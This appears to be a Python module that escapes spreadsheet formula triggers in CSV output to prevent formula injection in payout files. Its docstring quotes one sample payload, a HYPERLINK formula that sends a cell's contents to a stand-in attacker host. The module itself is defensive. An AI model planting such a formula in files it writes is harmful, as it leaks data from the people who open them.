"""Files people open in a spreadsheet (CSV now, XLSX later): cells that cannot run as formulas.

A spreadsheet treats a cell starting with =, +, -, @ (and, in some programs, a tab or carriage return
before them) as a formula: a firm named `=HYPERLINK("https://evil.example/?"&A1,"click")` in a payout
file would run when an operator opens it. Every writer of such files passes its rows through
`spreadsheet_row` (or uses `csv_writer`), which puts an apostrophe before such text: spreadsheets show
the text as typed, and the apostrophe is visible to a program reading the raw file.

Only text is escaped. Numbers (int, Decimal, float) are written as they are, so a negative amount such as a
refund (-5000) stays a number the operator can sum; it cannot carry a formula.
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    return [spreadsheet_cell(value) for value in values]


class _SafeWriter:
    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(spreadsheet_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> _SafeWriter:
    """csv.writer whose rows go through spreadsheet_row."""
    return _SafeWriter(out, **kwargs)
